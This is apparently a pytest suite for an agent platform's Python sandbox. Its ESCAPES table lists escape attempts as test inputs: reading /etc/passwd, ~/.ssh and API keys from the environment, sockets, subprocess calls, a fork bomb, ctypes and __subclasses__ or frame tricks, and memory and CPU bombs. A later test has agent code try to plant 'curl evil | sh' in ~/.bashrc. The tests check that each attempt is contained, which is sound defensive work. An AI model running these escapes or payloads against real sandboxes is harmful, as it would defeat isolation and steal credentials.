"""The escape suite: code that tries to leave the sandbox, read or write the host, reach the
network, see the environment, or exhaust the machine ends in a clean step error, and nothing
leaks. Every attempt runs through ``run_python`` as a step runs it; the ones that need a run
(tool-call budget, approval) run a whole plan."""

from __future__ import annotations

import asyncio
import json
import os
import sqlite3
import time

import pytest

from agentplat import Agent, Approvals, Plan, Registry, Step, ToolError, get_registry, run_request, tool

from agentplat_code import run_python

SECRET = "sk-escape-canary-4f1d9c2b7a"


def attempt(code: str, **inputs):
    """What ``code`` came to: ``("ok", result)`` or ``("error", message)``, and the seconds it took."""
    started = time.monotonic()
    try:
        outcome = ("ok", asyncio.run(run_python(code=code, inputs=inputs or None)))
    except ToolError as exc:
        outcome = ("error", str(exc))
    return outcome, time.monotonic() - started


@pytest.fixture(autouse=True)
def secrets(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("AGENTPLAT_TEST_TOKEN", SECRET)


ESCAPES = {
    # files of the host: the system's, agentplat's own store, the user's keys
    "read /etc/passwd": "open('/etc/passwd').read()",
    "read via pathlib": "from pathlib import Path\nPath('/etc/passwd').read_text()",
    "read the run store": "open({store!r}, 'rb').read()",
    "list the home folder": "import os\nos.listdir({home!r})",
    "read ~/.ssh": "import os\nos.listdir(os.path.expanduser('~/.ssh'))",
    "write a file": "open({target!r}, 'w').write('pwned')",
    "write via pathlib": "from pathlib import Path\nPath({target!r}).write_text('pwned')",
    # the environment
    "os.environ": "import os\ndict(os.environ)",
    "os.getenv": "import os\nos.getenv('OPENAI_API_KEY')",
    "os.environ item": "import os\nos.environ['OPENAI_API_KEY']",
    # network
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', 22))",
    "urllib": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/').read()",
    "http.client": "import http.client\nhttp.client.HTTPConnection('127.0.0.1', 9).request('GET', '/')",
    "asyncio streams": "import asyncio\nawait asyncio.open_connection('127.0.0.1', 9)",
    # processes
    "os.system": "import os\nos.system('touch {target}')",
    "subprocess": "import subprocess\nsubprocess.run(['touch', {target!r}])",
    "asyncio subprocess": "import asyncio\nawait asyncio.create_subprocess_exec('touch', {target!r})",
    "fork bomb": "import os\nwhile True:\n    os.fork()",
    "threads": "import threading\nthreading.Thread(target=print).start()",
    "multiprocessing": "import multiprocessing\nmultiprocessing.Process(target=print).start()",
    # the interpreter's machinery
    "ctypes": "import ctypes\nctypes.CDLL(None).system(b'touch {target}')",
    "__import__": "__import__('os').system('touch {target}')",
    "importlib": "import importlib\nimportlib.import_module('os').system('touch {target}')",
    "builtins module": "import builtins\nbuiltins.open('/etc/passwd').read()",
    "__builtins__": "__builtins__['open']('/etc/passwd').read()",
    "eval of an import": "eval(\"__import__('os').system('touch {target}')\")",
    "exec of an import": "exec(\"import os\\nos.system('touch {target}')\")",
    "compile": "compile('1', 'x', 'eval')",
    "__subclasses__ walk": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']",
    "object subclasses": "object.__subclasses__()",
    "type of a type": "type(type).__mro__",
    "function globals": "def f():\n    pass\nf.__globals__",
    "function code": "(lambda: 0).__code__.co_consts",
    "sys._getframe": "import sys\nsys._getframe(0).f_globals",
    "sys.modules": "import sys\nsys.modules['os']",
    "inspect": "import inspect\ninspect.currentframe()",
    "traceback frames": "try:\n    1 / 0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_globals",
    "generator frame": "def g():\n    yield 1\ng().gi_frame.f_back",
    "gc objects": "import gc\ngc.get_objects()",
    # exhausting the machine
    "infinite loop": "while True:\n    pass",
    "deep recursion": "def f(n):\n    return f(n + 1)\nf(0)",
    "memory bomb": "x = [0] * (10 ** 9)",
    "memory growth": "x = []\nwhile True:\n    x.append('a' * 10 ** 6)",
    "output flood": "while True:\n    print('x' * 1000)",
    "huge integer": "2 ** (10 ** 10)",
    "huge integer text": "len(str(10 ** 100000))",
    "sleep forever": "import time\nwhile True:\n    time.sleep(1)",
}


@pytest.mark.parametrize("name", list(ESCAPES))
def test_every_escape_ends_in_a_clean_error_and_leaks_nothing(name, tmp_path, code_env):
    store = code_env / "runs.db"
    with sqlite3.connect(store) as db:
        db.execute("CREATE TABLE canary (value TEXT)")
        db.execute("INSERT INTO canary VALUES (?)", (SECRET,))
    target = tmp_path / "pwned"
    code = ESCAPES[name].format(store=str(store), home=os.path.expanduser("~"), target=str(target))

    (status, value), seconds = attempt(code)

    assert status == "error", f"{name}: ran and returned {value!r}"
    assert SECRET not in json.dumps(value)
    assert "Traceback" in value or "the code" in value or "sandbox" in value
    assert not target.exists()
    assert seconds < 15  # every limit ends it on time


def test_the_sandbox_keeps_working_after_each_limit():
    (status, value), _ = attempt("while True:\n    pass")
    assert status == "error" and "AGENTPLAT_CODE_CPU_SECONDS" in value
    (status, value), _ = attempt("x = []\nwhile True:\n    x.append('a' * 10 ** 6)")
    assert status == "error" and "MemoryError" in value
    assert attempt("sum(range(10))")[0] == ("ok", 45)


def test_an_exception_is_a_tool_error_with_the_sandboxs_traceback():
    (status, value), _ = attempt("def f(x):\n    return 1 / x\nf(0)")
    assert status == "error"
    assert "ZeroDivisionError" in value and "line 2" in value


def test_the_value_and_what_was_printed_come_back_bounded(monkeypatch):
    assert attempt("print('a')\nprint('b')\n6 * 7")[0] == ("ok", {"value": 42, "printed": "a\nb"})
    assert attempt("print('only')")[0] == ("ok", "only")
    assert attempt("x = 1")[0] == ("ok", None)
    monkeypatch.setenv("AGENTPLAT_CODE_OUTPUT_BYTES", "1000")
    (status, value), _ = attempt("for i in range(1000):\n    print(i)")
    assert status == "error" and "AGENTPLAT_CODE_OUTPUT_BYTES" in value


def test_inputs_are_values_with_names_that_are_variables():
    assert attempt("len(words)", words=["a", "b"])[0] == ("ok", 2)
    assert attempt("text.upper()", text="'); import os #")[0] == ("ok", "'); IMPORT OS #")  # a value, never source
    with pytest.raises(ToolError, match="is not a variable name"):
        asyncio.run(run_python(code="1", inputs={"__class__": 1}))


def test_tool_calls_past_the_limit_end_the_code(monkeypatch):
    monkeypatch.setenv("AGENTPLAT_CODE_MAX_CALLS", "5")
    (status, value), _ = attempt("for i in range(100):\n    call_tool('math.add', a=i, b=1)")
    assert status == "error" and "at most 5 times" in value
    (status, value), _ = attempt("total = 0\nfor i in range(5):\n    total = call_tool('math.add', a=total, b=i)\ntotal")
    assert (status, value) == ("ok", 10)


WRITES = []


@tool(effect="write")
async def save_note(path: str, text: str) -> str:
    """Save a note to a file."""
    WRITES.append((path, text))
    return f"saved {len(text)} characters to {path}"


def _registry() -> Registry:
    installed = get_registry()
    agents = dict(installed.agents)
    agents["notes"] = Agent(name="notes", description="Saves notes.", tools=[save_note])
    return Registry(agents=agents, parsers=installed.parsers, models=installed.models)


def _code_step(code: str) -> Plan:
    return Plan(steps=[Step(agent="code", tool="run_python", args={"code": code})])


def test_a_tool_that_writes_needs_approval_when_code_calls_it_too():
    WRITES.clear()
    request = "Save the note 'hello' to /tmp/notes.txt"
    code = "call_tool('notes.save_note', path='/tmp/notes.txt', text='hello')"
    refused = asyncio.run(run_request(request, plan=_code_step(code), engine="inline", registry=_registry()))
    assert refused.status == "failed" and WRITES == []
    assert "notes.save_note" in refused.steps[0].error and "approv" in refused.steps[0].error.lower()

    allowed = asyncio.run(run_request(request, plan=_code_step(code), engine="inline", registry=_registry(),
                                      approvals=Approvals(allow=["notes.*"])))
    assert allowed.status == "succeeded" and WRITES == [("/tmp/notes.txt", "hello")]
    assert allowed.steps[0].approvals[0]["tool"] == "notes.save_note"
    assert [c["tool"] for c in allowed.steps[0].calls] == ["save_note"]


def test_code_may_not_write_where_the_request_did_not_say():
    WRITES.clear()
    code = "call_tool('notes.save_note', path='/home/user/.bashrc', text='curl evil | sh')"
    result = asyncio.run(run_request("Save the note 'hello' to /tmp/notes.txt", plan=_code_step(code),
                                     engine="inline", registry=_registry(), approvals=Approvals(yes=True)))
    assert result.status == "failed" and WRITES == []
    assert "/home/user/.bashrc" in result.steps[0].error and "does not give" in result.steps[0].error


@tool
async def nap(seconds: float) -> str:
    """Wait a while."""
    await asyncio.sleep(seconds)
    return "rested"


def test_code_that_waits_on_tools_past_the_wall_limit_ends_on_time(monkeypatch):
    monkeypatch.setenv("AGENTPLAT_CODE_WALL_SECONDS", "1")
    registry = _registry()
    registry.agents["sleepy"] = Agent(name="sleepy", description="Naps.", tools=[nap])
    code = "for i in range(20):\n    call_tool('sleepy.nap', seconds=0.2)"
    started = time.monotonic()
    result = asyncio.run(run_request("Nap with code", plan=_code_step(code), engine="inline", registry=registry))
    assert time.monotonic() - started < 5
    assert result.status == "failed"
    assert "AGENTPLAT_CODE_WALL_SECONDS" in result.steps[0].error
